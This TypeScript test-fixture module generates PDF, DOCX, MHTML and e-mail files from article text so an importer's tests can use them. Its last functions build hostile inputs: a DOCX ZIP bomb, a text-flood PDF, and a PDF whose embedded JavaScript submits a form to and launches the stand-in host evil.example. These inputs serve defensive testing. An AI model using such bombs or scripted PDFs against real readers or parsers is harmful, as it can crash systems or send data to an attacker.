/**
 * Real files of every format the importer reads, built in the test from an article's text: a PDF
 * written with pdf-lib (wrapped lines, hyphenation, running headers, page numbers, optionally two
 * columns drawn right column first), a DOCX zipped from its XML parts with fflate, an MHTML page as
 * Chrome saves one (quoted-printable HTML, a frame, a base64 image) and an e-mail (multipart, with
 * quoted-printable and base64 bodies). Used by the unit, reliability and e2e tests and the bench.
 */
import { Zip, ZipDeflate, strToU8, zipSync, zlibSync } from 'fflate';
import { PDFDocument, StandardFonts, type PDFFont } from 'pdf-lib';
import { concatBytes } from '../../shared/article/zip';

export interface SourceArticle {
  title: string;
  /** Paragraphs separated by blank lines. */
  text: string;
  author?: string;
  /** ISO date. */
  date?: string;
  url?: string;
}

/** The words of a text, for comparing what went in with what came out (not bytes: layout differs). */
export function words(text: string): string[] {
  return text.normalize('NFC').toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? [];
}

export const paragraphsOf = (text: string) => text.split(/\n{2,}/).map((p) => p.replace(/\s+/g, ' ').trim()).filter(Boolean);

export interface PdfOptions {
  /** Two columns, the right one drawn before the left, so content order is not reading order. */
  columns?: 1 | 2;
  /** A running header and "Page n of N" footer on every page. */
  running?: boolean;
  /** Break long words at line ends with a hyphen. */
  hyphenate?: boolean;
  /** Document information (title, author, date). */
  info?: boolean;
}

export interface BuiltPdf {
  bytes: Uint8Array;
  /** The text as written (characters the standard font cannot encode are replaced by "?"). */
  written: SourceArticle;
}

const PAGE: [number, number] = [595, 842];
const MARGIN = 56;

/** Characters Helvetica (WinAnsi) can draw; others become "?". */
function drawable(text: string, font: PDFFont): string {
  const set = new Set(font.getCharacterSet());
  return [...text].map((ch) => (set.has(ch.codePointAt(0)!) || ch === '\n' ? ch : '?')).join('');
}

/** A PDF of the article: headline in a larger font, then its paragraphs wrapped to the column. */
export async function pdfOf(article: SourceArticle, options: PdfOptions = {}): Promise<BuiltPdf> {
  // pdf-lib stamps the creation date with today's unless told not to.
  const doc = await PDFDocument.create({ updateMetadata: options.info !== false });
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const bold = await doc.embedFont(StandardFonts.HelveticaBold);
  const title = drawable(article.title, bold);
  const text = paragraphsOf(drawable(article.text, font)).join('\n\n');
  if (options.info !== false) {
    doc.setTitle(title);
    if (article.author) doc.setAuthor(article.author);
    if (article.date) doc.setCreationDate(new Date(`${article.date}T09:00:00Z`));
  }
  const columns = options.columns ?? 1;
  const gutter = 24;
  const columnWidth = (PAGE[0] - 2 * MARGIN - (columns - 1) * gutter) / columns;
  const size = 11;
  const leading = 15;
  // Lines of each column, laid out first, drawn after (so the right column can be drawn first).
  type Placed = { text: string; x: number; y: number; size: number; bold?: boolean };
  const pages: Placed[][] = [[]];
  let column = 0;
  let y = PAGE[1] - MARGIN - 30;
  const top = y;
  const place = (line: string, lineSize = size, isBold = false) => {
    if (y < MARGIN + 30) {
      column++;
      y = top;
      if (column >= columns) {
        column = 0;
        pages.push([]);
      }
    }
    pages.at(-1)!.push({ text: line, x: MARGIN + column * (columnWidth + gutter), y, size: lineSize, bold: isBold });
    y -= lineSize === size ? leading : lineSize * 1.4;
  };
  for (const line of wrap(title, bold, 18, columnWidth, false)) place(line, 18, true);
  y -= leading;
  for (const paragraph of text.split('\n\n')) {
    for (const line of wrap(paragraph, font, size, columnWidth, options.hyphenate ?? false)) place(line);
    y -= leading * 0.8;
  }
  pages.forEach((lines, i) => {
    const page = doc.addPage(PAGE);
    if (options.running) {
      page.drawText('Corroborate Test Gazette · World edition', { x: MARGIN, y: PAGE[1] - 30, size: 8, font });
      page.drawText(`Page ${i + 1} of ${pages.length}`, { x: PAGE[0] / 2 - 20, y: 24, size: 8, font });
    }
    const order = columns === 2 ? [...lines].sort((a, b) => b.x - a.x) : lines;
    for (const l of order) page.drawText(l.text, { x: l.x, y: l.y, size: l.size, font: l.bold ? bold : font });
  });
  return { bytes: await doc.save(), written: { ...article, title, text } };
}

/** Greedy line wrapping; with `hyphenate`, a long word that does not fit is split with a hyphen. */
function wrap(paragraph: string, font: PDFFont, size: number, width: number, hyphenate: boolean): string[] {
  const fits = (text: string) => font.widthOfTextAtSize(text, size) <= width;
  const lines: string[] = [];
  let line = '';
  for (const word of paragraph.split(' ')) {
    const candidate = line ? `${line} ${word}` : word;
    if (fits(candidate)) {
      line = candidate;
      continue;
    }
    // As much of a long word as fits, with a hyphen, keeping three letters on each side.
    const cut = hyphenate && line && /^\p{L}{8,}$/u.test(word) ? [...Array(word.length - 5).keys()].map((k) => word.length - 3 - k).find((c) => fits(`${line} ${word.slice(0, c)}-`)) : undefined;
    if (cut) {
      lines.push(`${line} ${word.slice(0, cut)}-`);
      line = word.slice(cut);
      continue;
    }
    if (line) lines.push(line);
    line = word;
  }
  if (line) lines.push(line);
  return lines;
}

const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** The XML parts of a minimal Word document, so tests can vary one (a bomb, a broken part). */
export function docxParts(article: SourceArticle): Record<string, string> {
  const paragraph = (text: string, style?: string) =>
    `<w:p>${style ? `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>` : ''}<w:r><w:t xml:space="preserve">${xmlEscape(text)}</w:t></w:r></w:p>`;
  return {
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph(article.title, 'Title')}${paragraphsOf(article.text).map((p) => paragraph(p)).join('')}</w:body></w:document>`,
    'docProps/core.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>${xmlEscape(article.title)}</dc:title>${article.author ? `<dc:creator>${xmlEscape(article.author)}</dc:creator>` : ''}${article.date ? `<dcterms:created xsi:type="dcterms:W3CDTF">${article.date}T09:00:00Z</dcterms:created>` : ''}</cp:coreProperties>`,
  };
}

/** A DOCX zipped from `parts` (default: the article's minimal document). */
export function docxOf(article: SourceArticle, parts: Record<string, string | Uint8Array> = docxParts(article)): Uint8Array {
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content])));
}

/** Quoted-printable, lines of at most 76 characters with soft breaks, as MIME writers produce it. */
export function quotedPrintable(text: string): string {
  const bytes = new TextEncoder().encode(text.replace(/\r?\n/g, '\r\n'));
  const out: string[] = [];
  let line = '';
  for (let i = 0; i < bytes.length; i++) {
    const b = bytes[i]!;
    if (b === 0x0d && bytes[i + 1] === 0x0a) {
      out.push(line);
      line = '';
      i++;
      continue;
    }
    const ch = (b >= 33 && b <= 126 && b !== 61) || b === 32 ? String.fromCharCode(b) : `=${b.toString(16).toUpperCase().padStart(2, '0')}`;
    if (line.length + ch.length > 75) {
      out.push(`${line}=`);
      line = '';
    }
    line += ch;
  }
  out.push(line);
  return out.join('\r\n');
}

const base64 = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes)).replace(/.{76}/g, '$&\r\n');

/** The article as a news page's HTML. */
export function articleHtml(article: SourceArticle, outlet = 'Test Gazette'): string {
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${xmlEscape(article.title)} | ${outlet}</title>
<meta property="og:title" content="${xmlEscape(article.title)}"><meta property="og:site_name" content="${outlet}">
${article.date ? `<meta property="article:published_time" content="${article.date}T09:00:00Z">` : ''}
<script>window.tracking = true</script></head><body><nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article><h1>${xmlEscape(article.title)}</h1>${paragraphsOf(article.text).map((p) => `<p>${xmlEscape(p)}</p>`).join('\n')}</article>
<footer>Copyright ${outlet}</footer></body></html>`;
}

/** An MHTML file as Chrome's "Save as… Webpage, Single File" writes it. */
export function mhtmlOf(article: SourceArticle, url = 'https://news.example.org/world/titan-debris'): Uint8Array {
  const boundary = '----MultipartBoundary--8Rg3yq7bWLOXrBxGUQ8yrmJc7H2sxr4ZeUbFm2Ku7Y----';
  const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1]);
  const text = [
    'From: <Saved by Blink>',
    `Snapshot-Content-Location: ${url}`,
    `Subject: =?utf-8?Q?${quotedPrintable(article.title).replace(/=\r\n/g, '').replace(/ /g, '_').replace(/\?/g, '=3F')}?=`,
    'Date: Thu, 22 Jun 2023 19:04:00 -0000',
    'MIME-Version: 1.0',
    `Content-Type: multipart/related;\r\n\ttype="text/html";\r\n\tboundary="${boundary}"`,
    '',
    '',
    `--${boundary}`,
    'Content-Type: text/html',
    'Content-ID: <frame-2F1A3D4C5B6E7F8091A2B3C4D5E6F708@mhtml.blink>',
    'Content-Transfer-Encoding: quoted-printable',
    `Content-Location: ${url}`,
    '',
    quotedPrintable(articleHtml(article)),
    '',
    `--${boundary}`,
    'Content-Type: text/html',
    'Content-ID: <frame-99AA@mhtml.blink>',
    'Content-Transfer-Encoding: quoted-printable',
    'Content-Location: cid:frame-99AA@mhtml.blink',
    '',
    quotedPrintable('<html><body><p>Advertisement: subscribe to our newsletter for the latest offers and deals every single week.</p></body></html>'),
    '',
    `--${boundary}`,
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    'Content-Location: https://news.example.org/logo.png',
    '',
    base64(png),
    '',
    `--${boundary}--`,
    '',
  ].join('\r\n');
  return new TextEncoder().encode(text);
}

export interface EmailOptions {
  from?: string;
  /** Also an HTML alternative (base64); the plain part is quoted-printable. */
  html?: boolean;
}

/** A press release sent by e-mail. */
export function emlOf(article: SourceArticle, options: EmailOptions = {}): Uint8Array {
  const boundary = 'b1_7a0c2c6f3e';
  const from = options.from ?? 'Coast Guard News <press@news.uscg.example>';
  const date = article.date ? new Date(`${article.date}T14:30:00Z`).toUTCString().replace('GMT', '+0000') : 'Thu, 22 Jun 2023 14:30:00 +0000';
  const plain = `${paragraphsOf(article.text).join('\r\n\r\n')}\r\n\r\n-- \r\nPublic Affairs Office\r\nnot part of the release`;
  const headers = [
    `From: ${from}`,
    'To: newsroom@example.org',
    `Subject: Fwd: =?utf-8?B?${btoa(String.fromCharCode(...new TextEncoder().encode(article.title)))}?=`,
    `Date: ${date}`,
    'Message-ID: <release-2023-06-22@news.uscg.example>',
    'MIME-Version: 1.0',
  ];
  if (!options.html) {
    return new TextEncoder().encode([...headers, 'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable', '', quotedPrintable(plain), ''].join('\r\n'));
  }
  return new TextEncoder().encode(
    [
      ...headers,
      `Content-Type: multipart/alternative; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      quotedPrintable(plain),
      `--${boundary}`,
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      base64(new TextEncoder().encode(articleHtml(article, 'U.S. Coast Guard'))),
      `--${boundary}--`,
      '',
    ].join('\r\n'),
  );
}

/**
 * A PDF written object by object, for files no PDF library would write: `objects[i]` becomes object
 * i + 1 (a string, or a dictionary with a stream), with a correct cross-reference table.
 */
export function rawPdf(objects: Array<string | { dict: string; stream: Uint8Array }>, trailer = ''): Uint8Array {
  const chunks: Uint8Array[] = [];
  let length = 0;
  const push = (data: string | Uint8Array) => {
    const bytes = typeof data === 'string' ? strToU8(data) : data;
    chunks.push(bytes);
    length += bytes.length;
  };
  push('%PDF-1.4\n');
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    if (typeof object === 'string') push(`${i + 1} 0 obj\n${object}\nendobj\n`);
    else {
      push(`${i + 1} 0 obj\n<<${object.dict}/Length ${object.stream.length}>>\nstream\n`);
      push(object.stream);
      push('\nendstream\nendobj\n');
    }
  });
  const xref = length;
  push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`);
  push(`trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${xref}\n%%EOF\n`);
  return concatBytes(chunks);
}

const PAGE_TREE = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>'];

/** A PDF that needs a password to open (standard security handler, a user password set). */
export function encryptedPdf(): Uint8Array {
  return rawPdf(
    [...PAGE_TREE, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>', `<</Filter/Standard/V 1/R 2/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>/P -4>>`],
    `/Encrypt 4 0 R/ID[<${'01'.repeat(16)}><${'01'.repeat(16)}>]`,
  );
}

/** A small PDF whose compressed page draws `lines` distinct lines of text: far more text than bytes. */
export function textFloodPdf(lines: number): Uint8Array {
  const ops: string[] = [];
  for (let k = 0; k < lines; k++) ops.push(`BT /F1 10 Tf 1 0 0 1 ${40 + (k % 7)} ${40 + (k % 60) * 12} Tm (Line ${k} of the endless report repeats itself again.) Tj ET`);
  return rawPdf([
    ...PAGE_TREE,
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>',
    { dict: '/Filter/FlateDecode', stream: zlibSync(strToU8(ops.join('\n'))) },
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ]);
}

/** A page with a drawing and no text: what a scan without OCR looks like to a text reader. */
export function imageOnlyPdf(): Uint8Array {
  return rawPdf([
    ...PAGE_TREE,
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>',
    { dict: '', stream: strToU8('0.5 g 40 40 515 762 re f') },
  ]);
}

/**
 * A DOCX one of whose parts inflates to `megabytes` MB of spaces (a ZIP bomb), built by streaming the
 * same buffer into the compressor so the test never holds the inflated part.
 */
export function docxBomb(article: SourceArticle, megabytes: number): Uint8Array {
  const out: Uint8Array[] = [];
  const zip = new Zip((err, chunk) => {
    if (err) throw err;
    out.push(chunk);
  });
  for (const [name, content] of Object.entries(docxParts(article))) {
    const file = new ZipDeflate(name, { level: 1 });
    zip.add(file);
    file.push(strToU8(content), true);
  }
  const bomb = new ZipDeflate('word/styles.xml', { level: 9 });
  zip.add(bomb);
  const spaces = new Uint8Array(1 << 20).fill(0x20);
  for (let i = 0; i < megabytes; i++) bomb.push(spaces, i === megabytes - 1);
  zip.end();
  return concatBytes(out);
}

/** A one-page PDF of `lines` that also carries JavaScript to run when opened (which nothing here runs). */
export function scriptedPdf(lines: readonly string[]): Uint8Array {
  const escape = (s: string) => s.replace(/[\\()]/g, '\\$&');
  const ops = lines.map((l, i) => `BT /F1 12 Tf 50 ${760 - i * 16} Td (${escape(l)}) Tj ET`).join('\n');
  return rawPdf([
    "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert('pdf-xss'); this.submitForm('https://evil.example/'))>>/Names<</JavaScript<</Names[(x) 6 0 R]>>>>>>",
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R/AA<</O<</S/JavaScript/JS(app.alert('page-open'))>>>>>>",
    { dict: '', stream: strToU8(ops) },
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    "<</S/JavaScript/JS(app.launchURL('https://evil.example/'))>>",
  ]);
}
